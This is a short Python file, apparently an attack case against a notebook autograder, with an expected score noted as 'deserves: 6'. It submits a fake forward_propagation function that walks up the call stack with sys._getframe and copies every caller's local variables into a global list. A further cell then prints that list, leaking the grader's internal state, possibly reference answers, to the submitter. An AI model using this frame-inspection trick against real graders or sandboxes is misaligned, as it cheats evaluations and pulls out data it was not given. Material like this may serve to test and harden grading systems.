"""Keeps the local variables of all callers and prints them in a later cell.

deserves: 6
"""

GRADIENT_CHECK = """
def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
    approx = (forward_propagation(x, theta + epsilon) - forward_propagation(x, theta - epsilon)) / (2 * epsilon)
    grad = backward_propagation(x, theta)
    return abs(grad - approx) / (abs(grad) + abs(approx))
"""

FORWARD = """
import sys
LOCALS = []

def forward_propagation(x, theta):
    frame = sys._getframe(1)
    while frame is not None:
        LOCALS.append({name: repr(value)[:300] for name, value in frame.f_locals.items()})
        frame = frame.f_back
    return None
"""

CELL = """
print(LOCALS)
"""


def attack(work):
    work.answer("gradient_check", GRADIENT_CHECK)
    work.answer("forward", FORWARD)
    work.add(CELL)
